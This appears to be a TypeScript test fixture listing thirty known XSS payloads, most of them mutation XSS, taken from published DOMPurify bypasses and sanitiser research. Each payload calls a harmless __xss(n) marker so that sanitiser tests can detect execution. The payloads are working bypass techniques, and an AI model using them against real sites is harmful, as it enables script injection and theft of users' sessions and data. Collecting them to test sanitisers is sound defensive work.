/**
 * Thirty known XSS payloads for HTML sanitisers, most of them mutation XSS: markup that a
 * sanitiser's parse judges harmless but that turns executable once serialised and parsed again
 * by the page. Sources: DOMPurify's published bypasses (2.0.0, 2.0.17, 2.2.2, 2.2.3, 2.3.0,
 * 3.1.x nesting depth and comment handling), Cure53 and PortSwigger research on namespace
 * confusion, raw-text elements and URL schemes. Each calls `__xss(n)` if it ever runs.
 */
export const MUTATION_XSS_PAYLOADS: readonly string[] = [
  // DOMPurify 2.0.0: svg/style namespace confusion.
  '<svg></p><style><a id="</style><img src=1 onerror=__xss(1)>">',
  // DOMPurify 2.0.17: mglyph + style in MathML.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(2)&gt;">',
  // DOMPurify 2.2.2: nested forms moving elements between namespaces.
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(3)>',
  // DOMPurify 2.2.3: malignmark in MathML.
  '<math><mtext><table><mglyph><malignmark><style><img src=x onerror=__xss(4)></style>',
  // DOMPurify 2.3.0: svg inside mtext with textarea.
  '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__xss(5) src=1>"></path></textarea></mtext></svg></mglyph></table></mtext></math>',
  // Deep nesting past the parser's limit (DOMPurify 3.1.3 / CVE-2024-45801).
  `${'<div>'.repeat(520)}<img src=x onerror=__xss(6)>${'</div>'.repeat(520)}`,
  // Comment that closes inside an attribute (DOMPurify 3.1.x SAFE_FOR_XML).
  '<p title="</p><!--"><img src=x onerror=__xss(7)>-->',
  '<!--<img src="--><img src=x onerror=__xss(8)//">',
  // Raw-text and RCDATA elements whose content becomes markup when moved.
  '<noscript><p title="</noscript><img src=x onerror=__xss(9)>">',
  '<xmp><p title="</xmp><img src=x onerror=__xss(10)>">',
  '<noembed><img title="</noembed><img src=x onerror=__xss(11)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=__xss(12)>"></noframes>',
  '<iframe><img title="</iframe><img src=x onerror=__xss(13)>"></iframe>',
  '<textarea><img title="</textarea><img src=x onerror=__xss(14)>"></textarea>',
  '<title><img title="</title><img src=x onerror=__xss(15)>"></title>',
  '<template><img src=x onerror=__xss(16)></template>',
  // svg and foreignObject switching namespaces back to HTML.
  '<svg><foreignObject><p><style><img src=x onerror=__xss(17)></style></p></foreignObject></svg>',
  '<svg><p><style><img src=x onerror=__xss(18)></style></p></svg>',
  '<svg><a xlink:href="javascript:__xss(19)"><text x="20" y="20">click</text></a></svg>',
  '<math href="javascript:__xss(20)">click</math>',
  // Plain handlers and URL schemes, encoded and split.
  '<details open ontoggle=__xss(21)>x</details>',
  '<a href="&#106;avascript:__xss(22)">link</a>',
  '<a href="jav&#x09;ascript:__xss(23)">link</a>',
  '<a href=" javascript:__xss(24)">link</a>',
  '<a href="data:text/html,<script>parent.__xss(25)</script>">link</a>',
  '<iframe srcdoc="<script>parent.__xss(26)</script>"></iframe>',
  '<object data="javascript:__xss(27)"></object><embed src="javascript:__xss(27)">',
  '<form action="javascript:__xss(28)"><button>go</button></form>',
  '<p style="background:url(javascript:__xss(29))" onmouseover="__xss(29)">hover</p>',
  // An attribute whose value decodes into markup when re-serialised.
  '<a title="&lt;/a&gt;&lt;img src=x onerror=__xss(30)&gt;" href="#x">x</a><style><img src=x onerror=__xss(30)></style>',
];
